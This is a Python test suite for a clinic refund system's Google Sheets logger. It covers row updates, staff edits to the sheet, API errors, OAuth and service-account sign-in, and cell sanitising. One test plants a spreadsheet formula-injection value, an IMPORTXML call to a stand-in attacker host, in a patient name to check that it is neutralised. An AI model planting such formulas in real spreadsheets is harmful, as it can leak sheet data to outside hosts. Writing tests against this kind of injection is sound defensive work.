"""Google Sheets: one row for each case, whatever staff and other processes do to the sheet."""

import json
from base64 import b64decode
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import anyio
import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinicrefund.adapters import google_sheets as adapter
from clinicrefund.adapters.google_sheets import COLUMNS, GoogleSheetsConfig, GoogleSheetsLogger
from clinicrefund.case.status import CaseStatus, Moment
from clinicrefund.errors import (
    ConfigurationError,
    CredentialsRefused,
    OutcomeUnknown,
    RateLimited,
    Unavailable,
)
from clinicrefund.http import JwtGrant, Session
from clinicrefund.model import Patient
from clinicrefund.money import Money
from clinicrefund.orders import CaseRecord
from clinicrefund.outcomes import Done, Pending, RefusalReason, Refused, WaitsFor
from clinicrefund.testing import Fault, Sandbox, SandboxReply, SandboxRequest, check_logger
from clinicrefund.testing.stand_ins.google_sheets import (
    CLIENT_ID,
    CLIENT_SECRET,
    REFRESH_TOKEN,
    SPREADSHEET,
    GoogleSheetsStandIn,
    error,
)
from clinicrefund.testing.stand_ins.google_sheets_grid import Block, Grid

from .recording import Recording

OPENED_AT = datetime(2026, 11, 21, 17, 0, tzinfo=UTC)
BLOCK = Block(sheet="Refunds", top=0, left=0, bottom=None, right=None)
APPEND = "POST /v4/spreadsheets/{id}/values/{range}:append"
OVERWRITE = "PUT /v4/spreadsheets/{id}/values/{range}"
READ = "GET /v4/spreadsheets/{id}/values:batchGet"
CONFIG = GoogleSheetsConfig(
    spreadsheet=SPREADSHEET, client_id=CLIENT_ID, client_secret=CLIENT_SECRET, refresh_token=REFRESH_TOKEN
)


class Recorded(Recording, GoogleSheetsStandIn):
    """Keeps what it was sent; refuses, where told to, in the words given to it."""


@attrs.frozen
class Sheets:
    sandbox: Sandbox
    google: Recorded
    logger: GoogleSheetsLogger

    @property
    def grid(self) -> Grid:
        return self.google.sheets["Refunds"]

    def logger_for(self, **changes: Any) -> GoogleSheetsLogger:
        return GoogleSheetsLogger(attrs.evolve(CONFIG, **changes), self.sandbox.session())

    def written(self) -> list[str]:
        return [
            asked.partition("/values/")[2] for asked in self.google.requests if asked[:3] in ("PUT", "POS")
        ][1:]


@pytest.fixture
async def sheets() -> AsyncIterator[Sheets]:
    google = Recorded()
    async with Sandbox(google) as sandbox:
        yield Sheets(sandbox, google, GoogleSheetsLogger(CONFIG, sandbox.session()))


def record(moment: Moment = Moment.OPENED, *, minutes: int = 0, **changes: Any) -> CaseRecord:
    first = CaseRecord(
        step_id=f"step-{moment.value}",
        key=f"key-{moment.value}",
        case_id="case-1",
        appointment_id="A-1001",
        moment=moment,
        status=CaseStatus.RUNNING,
        refund=Money.of("120.00", "USD"),
        retained=Money.of("0.50", "USD"),
        at=OPENED_AT + timedelta(minutes=minutes),
        patient=None,
        link="https://clinic.example/case-1",
        references=(),
    )
    return attrs.evolve(first, **changes)


CLOSED = record(Moment.CLOSED, minutes=5, status=CaseStatus.CLOSED)


# ---- one row ---------------------------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_the_first_moment_writes_the_header_and_a_row(sheets: Sheets) -> None:
    assert await sheets.logger.log(record()) == Done(reference="Refunds!2:2")
    assert sheets.google.rows() == [
        {
            "Case": "case-1",
            "Step": "step-opened",
            "Updated": "2026-11-21T17:00:00.000Z",
            "Appointment": "A-1001",
            "Moment": "opened",
            "Status": "running",
            "Refund": "120.00",
            "Retained": "0.50",
            "Currency": "USD",
            "Patient": "-",
            "Link": "https://clinic.example/case-1",
        }
    ]


@pytest.mark.anyio
async def test_rows_are_appended_raw_and_inserted(sheets: Sheets) -> None:
    """USER_ENTERED would run formulas, OVERWRITE would lose rows that arrive together."""
    await sheets.logger.log(record())
    append = sheets.google.seen[-1]
    assert append.query == {"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"}
    assert append.json()["range"] == "'Refunds'!A1"


@pytest.mark.anyio
async def test_later_moments_overwrite_the_row_of_their_case(sheets: Sheets) -> None:
    await sheets.logger.log(record())
    await sheets.logger.log(record(case_id="case-2"))
    assert await sheets.logger.log(CLOSED) == Done(reference="Refunds!2:2")
    assert [(row["Case"], row["Status"]) for row in sheets.google.rows()] == [
        ("case-1", "closed"),
        ("case-2", "running"),
    ]


@pytest.mark.anyio
async def test_the_same_moment_twice_is_written_once(sheets: Sheets) -> None:
    assert await sheets.logger.log(record()) == await sheets.logger.log(record())
    assert sheets.written() == ["%27Refunds%27%21A1%3AK1", "%27Refunds%27%21A1:append"]


@pytest.mark.anyio
async def test_an_older_moment_never_takes_the_row_back(sheets: Sheets) -> None:
    await sheets.logger.log(CLOSED)
    assert await sheets.logger.log(record()) == Done(reference="Refunds!2:2")
    assert await sheets.logger.find_record(record(), reference=None) == Done(reference="Refunds!2:2")
    assert [row["Status"] for row in sheets.google.rows()] == ["closed"]


@pytest.mark.anyio
async def test_a_later_moment_that_is_not_written_yet_is_not_found(sheets: Sheets) -> None:
    await sheets.logger.log(record())
    assert await sheets.logger.find_record(CLOSED, reference="Refunds!2:2") is None


@pytest.mark.anyio
async def test_two_moments_of_one_case_at_once_are_one_row(sheets: Sheets) -> None:
    async with anyio.create_task_group() as group:
        group.start_soon(sheets.logger.log, record())
        group.start_soon(sheets.logger.log, CLOSED)
    assert [row["Status"] for row in sheets.google.rows()] == ["closed"]


@pytest.mark.anyio
async def test_two_rows_of_one_case_are_left_to_a_person(sheets: Sheets) -> None:
    """Two processes can append at the same moment: Sheets has nothing to stop them."""
    await sheets.logger.log(record())
    sheets.grid.write(2, 0, sheets.grid.rows(BLOCK)[1:], typed=False)
    outcome = await sheets.logger.log(CLOSED)
    assert isinstance(outcome, Pending)
    assert outcome.waits_for is WaitsFor.CLINIC
    assert "2 and 3" in (outcome.task or "")
    assert len(sheets.google.rows()) == 2


# ---- what staff does to the sheet ------------------------------------------------------------------------------


@pytest.mark.anyio
@pytest.mark.parametrize("place", [0, 1, 5, 11])
async def test_a_column_of_staff_is_left_alone_wherever_it_stands(sheets: Sheets, place: int) -> None:
    await sheets.logger.log(record())
    sheets.grid.insert_column(place, "Called back")
    sheets.grid.write(1, place, [["yes"]], typed=False)
    await sheets.logger.log(CLOSED)
    await sheets.logger.log(record(case_id="case-2"))
    first, second = sheets.google.rows()
    assert (first["Status"], first["Called back"]) == ("closed", "yes")
    assert (second["Case"], second["Link"]) == ("case-2", "https://clinic.example/case-1")
    assert not second.get("Called back")


class Restless(GoogleSheetsStandIn):
    """Staff moves the columns whenever anybody reads."""

    def answer(self, method: str, path: str, request: SandboxRequest, /) -> SandboxReply:
        if method == "GET":
            self.sheets["Refunds"].insert_column(0, f"Column {len(self.requests)}")
        return super().answer(method, path, request)


@pytest.mark.anyio
async def test_columns_that_move_all_the_time_are_waited_for() -> None:
    google = Restless()
    google.sheets["Refunds"].write(0, 0, [list(COLUMNS)], typed=False)
    async with Sandbox(google) as sandbox:
        with pytest.raises(Unavailable, match="moved right now"):
            await GoogleSheetsLogger(CONFIG, sandbox.session()).log(record())
    assert google.rows() == []


@pytest.mark.anyio
async def test_an_append_that_does_not_say_where_is_unknown(sheets: Sheets) -> None:
    sheets.google.words = SandboxReply(json={"updates": {}})
    sheets.google.fail(Fault.REFUSED, operation=APPEND)
    with pytest.raises(OutcomeUnknown):
        await sheets.logger.log(record())


@pytest.mark.anyio
async def test_a_row_is_found_after_sorting(sheets: Sheets) -> None:
    await sheets.logger.log(record())
    await sheets.logger.log(record(case_id="case-2"))
    sheets.grid.sort()
    assert await sheets.logger.log(CLOSED) == Done(reference="Refunds!3:3")
    assert [row["Case"] for row in sheets.google.rows()] == ["case-2", "case-1"]


@pytest.mark.anyio
async def test_a_header_of_staff_decides_which_columns_are_written(sheets: Sheets) -> None:
    sheets.grid.write(0, 1, [["updated", " STEP ", "Refund", "Case"]], typed=False)
    assert await sheets.logger.log(record()) == Done(reference="Refunds!2:2")
    assert sheets.grid.rows(BLOCK)[1] == ["", "2026-11-21T17:00:00.000Z", "step-opened", "120.00", "case-1"]


@pytest.mark.anyio
async def test_a_header_without_the_key_columns_is_left_to_a_person(sheets: Sheets) -> None:
    sheets.grid.write(0, 0, [["Case", "Notes"]], typed=False)
    outcome = await sheets.logger.log(record())
    assert isinstance(outcome, Pending)
    assert "Case, Step, Updated" in (outcome.task or "")
    assert sheets.written() == []


@pytest.mark.anyio
async def test_holes_in_the_rows_above_do_not_move_a_new_row_to_the_right(sheets: Sheets) -> None:
    await sheets.logger.log(record())
    for column in (0, 3):
        sheets.grid.write(1, column, [[""]], typed=False)
    sheets.grid.write(4, 6, [["a note of staff", "further down"]], typed=False)
    assert await sheets.logger.log(record(case_id="case-2")) == Done(reference="Refunds!3:3")


@pytest.mark.anyio
async def test_a_row_that_landed_in_other_columns_is_left_to_a_person(sheets: Sheets) -> None:
    sheets.google.words = SandboxReply(json={"updates": {"updatedRange": "Refunds!C9:N9"}})
    sheets.google.fail(Fault.REFUSED, operation=APPEND)
    outcome = await sheets.logger.log(record())
    assert isinstance(outcome, Pending)
    assert "Row 9" in (outcome.task or "")


@pytest.mark.anyio
async def test_a_changed_time_in_the_sheet_does_not_stop_later_moments(sheets: Sheets) -> None:
    await sheets.logger.log(record())
    sheets.grid.write(1, 2, [["yesterday"]], typed=False)
    await sheets.logger.log(CLOSED)
    assert [row["Status"] for row in sheets.google.rows()] == ["closed"]


@pytest.mark.anyio
async def test_a_tab_with_quotes_and_spaces_in_its_name(sheets: Sheets) -> None:
    sheets.google.sheets["Refunds' log 2"] = Grid(sheet="Refunds' log 2")
    logger = sheets.logger_for(sheet="Refunds' log 2")
    await logger.log(record())
    await logger.log(CLOSED)
    assert [row["Status"] for row in sheets.google.rows("Refunds' log 2")] == ["closed"]


# ---- what stands in a cell -------------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_nothing_of_what_a_patient_wrote_comes_alive(sheets: Sheets) -> None:
    patient = Patient(patient_id="P-1", name='=IMPORTXML("http://evil.example")\nx')
    await sheets.logger.log(record(patient=patient, link="@x", appointment_id="+1", case_id="-case"))
    (row,) = sheets.google.rows()
    assert row["Patient"] == '_IMPORTXML("http://evil.example") x (P-1)'
    assert (row["Link"], row["Appointment"], row["Case"]) == ("_x", "_1", "_case")
    assert await sheets.logger.find_record(record(case_id="-case"), reference=None) is not None


@given(st.text())
def test_no_cell_is_empty_or_starts_a_formula_or_holds_a_control_character(text: str) -> None:
    cell = adapter._cell(text)
    assert cell == "-" or cell[0] not in "=+-@"
    assert cell.strip() == cell != ""
    assert not any(ord(character) < 32 or 127 <= ord(character) < 160 for character in cell)


@given(st.integers(min_value=0, max_value=20_000))
def test_letters_of_columns_count_as_a_sheet_does(place: int) -> None:
    value = 0
    for letter in adapter._letters(place):
        value = value * 26 + ord(letter) - ord("A") + 1
    assert value == place + 1


@pytest.mark.anyio
async def test_what_is_not_known_is_a_dash_and_never_a_hole(sheets: Sheets) -> None:
    empty = record(refund=None, retained=None, appointment_id=None, link=None)
    await sheets.logger.log(empty)
    assert sheets.grid.rows(BLOCK)[1][6:] == ["-"] * 5


# ---- errors ----------------------------------------------------------------------------------------------------


@pytest.mark.anyio
@pytest.mark.parametrize("trouble", [Fault.LOST_AFTER, Fault.ERROR_AFTER, Fault.GARBLED])
async def test_an_append_whose_answer_is_lost_is_unknown_and_its_row_is_found(
    sheets: Sheets, trouble: Fault
) -> None:
    sheets.google.fail(trouble, operation=APPEND)
    with pytest.raises(OutcomeUnknown):
        await sheets.logger.log(record())
    assert await sheets.logger.find_record(record(), reference=None) == Done(reference="Refunds!2:2")
    await sheets.logger.log(record())
    assert len(sheets.google.rows()) == 1


@pytest.mark.anyio
@pytest.mark.parametrize("operation", [APPEND, OVERWRITE])
async def test_a_success_that_is_not_googles_is_unknown_and_writes_no_row_without_a_header(
    sheets: Sheets, operation: str
) -> None:
    sheets.google.fail(Fault.FOREIGN, operation=operation)
    with pytest.raises(OutcomeUnknown):
        await sheets.logger.log(record())
    assert sheets.google.rows() == []
    await sheets.logger.log(record())
    assert [row["Case"] for row in sheets.google.rows()] == ["case-1"]


@pytest.mark.anyio
@pytest.mark.parametrize("operation", [APPEND, OVERWRITE])
async def test_nothing_is_found_of_what_never_arrived(sheets: Sheets, operation: str) -> None:
    sheets.google.fail(Fault.LOST_BEFORE, operation=operation)
    with pytest.raises(OutcomeUnknown):
        await sheets.logger.log(record())
    assert await sheets.logger.find_record(record(), reference=None) is None


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("reply", "meant"),
    [
        (
            error(400, "INVALID_ARGUMENT", "made up"),
            Refused(reason=RefusalReason.OTHER, code="INVALID_ARGUMENT"),
        ),
        (
            error(400, "FAILED_PRECONDITION", "made up"),
            Refused(reason=RefusalReason.UNSUPPORTED, code="FAILED_PRECONDITION"),
        ),
        (error(404, "NOT_FOUND", "made up"), Refused(reason=RefusalReason.NOT_FOUND, code="NOT_FOUND")),
    ],
)
@pytest.mark.parametrize("operation", [READ, OVERWRITE, APPEND])
async def test_refusals_of_the_table(
    sheets: Sheets, reply: SandboxReply, meant: Refused, operation: str
) -> None:
    sheets.google.words = reply
    sheets.google.fail(Fault.REFUSED, operation=operation)
    assert await sheets.logger.log(record()) == meant
    assert sheets.google.rows() == []


@pytest.mark.anyio
@pytest.mark.parametrize("operation", [OVERWRITE, APPEND])
async def test_a_protected_range_is_refused(sheets: Sheets, operation: str) -> None:
    sheets.google.fail(Fault.REFUSED, operation=operation)
    outcome = await sheets.logger.log(record())
    assert outcome == Refused(reason=RefusalReason.NOT_ALLOWED, code="PERMISSION_DENIED")


@pytest.mark.anyio
async def test_a_refusal_that_nobody_knows_is_unknown_after_a_write_and_nothing_after_a_read(
    sheets: Sheets,
) -> None:
    sheets.google.words = error(409, "ABORTED", "made up")
    sheets.google.fail(Fault.REFUSED, operation=APPEND)
    with pytest.raises(OutcomeUnknown):
        await sheets.logger.log(record())
    sheets.google.fail(Fault.REFUSED, operation=READ)
    with pytest.raises(Unavailable):
        await sheets.logger.log(record())


@pytest.mark.anyio
@pytest.mark.parametrize(
    "reply",
    [
        error(500, "INTERNAL", "made up"),
        SandboxReply(status=502, text="<html>"),
        error(503, "UNAVAILABLE", "made up"),
        error(504, "DEADLINE_EXCEEDED", "made up"),
    ],
)
async def test_a_server_that_fails_is_unknown_after_a_write_and_nothing_after_a_read(
    sheets: Sheets, reply: SandboxReply
) -> None:
    sheets.google.words = reply
    for operation in (OVERWRITE, APPEND):
        sheets.google.fail(Fault.REFUSED, operation=operation)
        with pytest.raises(OutcomeUnknown):
            await sheets.logger.log(record())
    sheets.google.fail(Fault.REFUSED, operation=READ, times=3)
    with pytest.raises(Unavailable):
        await sheets.logger.find_record(record(), reference=None)
    assert sheets.google.rows() == []


@pytest.mark.anyio
async def test_a_quota_names_no_time(sheets: Sheets) -> None:
    sheets.google.words = error(429, "RESOURCE_EXHAUSTED", "made up")
    for operation in (APPEND, READ):
        sheets.google.fail(Fault.REFUSED, operation=operation)
        with pytest.raises(RateLimited) as limited:
            await sheets.logger.log(record())
        assert limited.value.retry_after is None
    assert sheets.google.rows() == []


@pytest.mark.anyio
async def test_a_new_token_that_is_refused_as_well_is_a_matter_of_credentials(sheets: Sheets) -> None:
    sheets.google.words = error(401, "UNAUTHENTICATED", "made up")
    sheets.google.fail(Fault.REFUSED, operation=READ, times=2)
    with pytest.raises(CredentialsRefused, match="401"):
        await sheets.logger.log(record())
    assert sheets.google.requests.count("POST /token") == 2


@pytest.mark.anyio
async def test_a_sheet_that_was_not_shared_is_a_matter_of_credentials(sheets: Sheets) -> None:
    sheets.google.is_shared = False
    for asked in (sheets.logger.log(record()), sheets.logger.find_record(record(), reference=None)):
        with pytest.raises(CredentialsRefused, match="share it"):
            await asked


@pytest.mark.anyio
async def test_an_uploaded_file_is_refused(sheets: Sheets) -> None:
    sheets.google.is_native = False
    outcome = await sheets.logger.log(record())
    assert outcome == Refused(reason=RefusalReason.UNSUPPORTED, code="FAILED_PRECONDITION")


@pytest.mark.anyio
async def test_a_tab_or_spreadsheet_that_is_not_there_is_refused(sheets: Sheets) -> None:
    tab = await sheets.logger_for(sheet="Elsewhere").log(record())
    assert tab == Refused(reason=RefusalReason.OTHER, code="INVALID_ARGUMENT")
    gone = sheets.logger_for(spreadsheet="gone")
    assert await gone.find_record(record(), reference=None) is None
    file = await gone.log(record())
    assert file == Refused(reason=RefusalReason.NOT_FOUND, code="NOT_FOUND")


@pytest.mark.anyio
async def test_a_used_up_quota_says_that_nothing_happened(sheets: Sheets) -> None:
    sheets.google.fail(Fault.RATE_LIMITED, operation=APPEND, delay=timedelta(seconds=60))
    with pytest.raises(RateLimited) as limited:
        await sheets.logger.log(record())
    assert limited.value.retry_after == timedelta(seconds=60)
    assert sheets.google.rows() == []


@pytest.mark.anyio
@pytest.mark.parametrize(
    "answer", [{"valueRanges": []}, {"valueRanges": [{}, {}]}, {"spreadsheetId": "x"}, {"valueRanges": "?"}]
)
async def test_an_answer_that_makes_no_sense_is_no_proof_of_absence(sheets: Sheets, answer: object) -> None:
    sheets.google.words = SandboxReply(json=answer)
    sheets.google.fail(Fault.REFUSED, operation=READ)
    with pytest.raises(Unavailable):
        await sheets.logger.find_record(record(), reference=None)


@pytest.mark.anyio
async def test_a_case_goes_at_once_and_a_crowd_waits_for_the_quota(sheets: Sheets) -> None:
    start = sheets.sandbox.clock.now()
    for moment in (Moment.OPENED, Moment.REFUNDED, Moment.CLOSED):
        assert await sheets.logger.find_record(record(moment), reference=None) is None
        await sheets.logger.log(record(moment))
    assert sheets.sandbox.clock.now() == start
    for _ in range(100 - len(sheets.google.requests)):
        await sheets.logger.find_record(record(), reference=None)
    assert sheets.sandbox.clock.now() - start >= timedelta(seconds=60)


# ---- signing in ------------------------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_a_token_that_ends_is_renewed_with_the_same_refresh_token(sheets: Sheets) -> None:
    await sheets.logger.log(record())
    sheets.google.end_tokens()
    await sheets.logger.log(CLOSED)
    assert sheets.google.requests.count("POST /token") == 2
    assert [row["Status"] for row in sheets.google.rows()] == ["closed"]


@pytest.mark.anyio
async def test_a_consent_that_was_withdrawn_is_told_as_such(sheets: Sheets) -> None:
    with pytest.raises(CredentialsRefused):
        await sheets.logger_for(refresh_token="gone").log(record())


@pytest.mark.anyio
@pytest.mark.parametrize("status", [400, 401])
@pytest.mark.parametrize("code", ["invalid_grant", "invalid_scope", "unauthorized_client"])
async def test_a_sign_in_that_google_refuses_is_a_matter_of_credentials(
    sheets: Sheets, status: int, code: str
) -> None:
    sheets.google.words = SandboxReply(status=status, json={"error": code, "error_description": "made up"})
    sheets.google.fail(Fault.REFUSED, operation="POST /token", times=9)
    with pytest.raises(CredentialsRefused) as refused:
        await sheets.logger.log(record())
    assert "made up" not in str(refused.value)
    assert sheets.written() == []


@pytest.fixture(scope="session")
def key_pair() -> tuple[str, str]:
    serialization = pytest.importorskip("cryptography.hazmat.primitives.serialization")
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    public = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return private.decode(), public.decode()


def key_file(private: str) -> str:
    return json.dumps(
        {
            "type": "service_account",
            "client_email": "refunds@clinic-test.iam.gserviceaccount.com",
            "private_key": private,
            "private_key_id": "k1",
            "token_uri": "https://oauth2.googleapis.com/token",
        }
    )


def account(private: str) -> GoogleSheetsConfig:
    return GoogleSheetsConfig(spreadsheet=SPREADSHEET, service_account=key_file(private))


@pytest.mark.anyio
async def test_a_service_account_signs_in_with_its_key(sheets: Sheets, key_pair: tuple[str, str]) -> None:
    private, public = key_pair
    sheets.google.service_accounts["refunds@clinic-test.iam.gserviceaccount.com"] = public
    logger = GoogleSheetsLogger(account(private), sheets.sandbox.session())
    assert await logger.log(record()) == Done(reference="Refunds!2:2")


def test_the_assertion_is_the_one_of_the_reference(key_pair: tuple[str, str]) -> None:
    """All but its signature, which is of a made-up key, and the order of its header, which means nothing."""
    grant = account(key_pair[0]).auth()
    assert isinstance(grant, JwtGrant)
    header, claims, _ = grant.assertion(datetime.fromtimestamp(1795324800, UTC)).split(".")
    in_order = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0"
    assert json.loads(b64decode(header + "==")) == json.loads(b64decode(in_order + "=="))
    expected = "5efa1238c7833fe7b45f7040f3312a8e2640be72cf38980b7a24e35e80bd6657"
    assert sha256(f"{in_order}.{claims}".encode()).hexdigest() == expected


@pytest.mark.anyio
async def test_a_service_account_that_google_does_not_know_is_refused(
    sheets: Sheets, key_pair: tuple[str, str]
) -> None:
    logger = GoogleSheetsLogger(account(key_pair[0]), sheets.sandbox.session())
    with pytest.raises(CredentialsRefused):
        await logger.log(record())


# ---- every promise of the port ---------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_every_promise_of_a_logger_is_kept() -> None:
    report = await check_logger(GoogleSheetsStandIn)
    assert report.passed, str(report)


# ---- configuration ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changes",
    [
        {"refresh_token": None},
        {"client_id": None},
        {"client_secret": None},
        {"service_account": "{}"},
        {"client_id": None, "client_secret": None, "refresh_token": None},
    ],
)
def test_half_a_sign_in_is_refused_before_any_work(changes: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError, match="either service_account"):
        GoogleSheetsLogger(attrs.evolve(CONFIG, **changes), Session())


def test_the_environment_names_a_consent_or_a_key_file(tmp_path: Path) -> None:
    assert GoogleSheetsConfig.from_env({}) is None
    consent = GoogleSheetsConfig.from_env(
        {
            "GOOGLE_SHEETS_SPREADSHEET": "1A",
            "GOOGLE_SHEETS_CLIENT_ID": "c",
            "GOOGLE_SHEETS_CLIENT_SECRET": "hidden",
            "GOOGLE_SHEETS_REFRESH_TOKEN": "hidden too",
            "GOOGLE_SHEETS_LIVE": "0",
        }
    )
    assert consent is not None
    assert (consent.sheet, consent.live) == ("Refunds", False)
    assert "hidden" not in repr(consent)
    path = tmp_path / "key.json"
    path.write_text(key_file("not shown"))
    by_file = GoogleSheetsConfig.from_env(
        {"GOOGLE_SHEETS_SPREADSHEET": "1A", "GOOGLE_SHEETS_KEY_FILE": str(path), "GOOGLE_SHEETS_SHEET": "Log"}
    )
    assert by_file is not None
    assert (by_file.sheet, by_file.live) == ("Log", True)
    assert "not shown" not in repr(by_file)


def test_moments_are_all_unless_the_host_says_less() -> None:
    assert set(GoogleSheetsLogger(CONFIG, Session()).moments) == set(Moment)
    fewer = attrs.evolve(CONFIG, moments={Moment.CLOSED})
    assert GoogleSheetsLogger(fewer, Session()).moments == {Moment.CLOSED}


def test_the_columns_that_find_a_row_stand_first_in_a_new_sheet() -> None:
    assert COLUMNS[:3] == adapter.KEY_COLUMNS
    assert len(set(COLUMNS)) == len(COLUMNS)
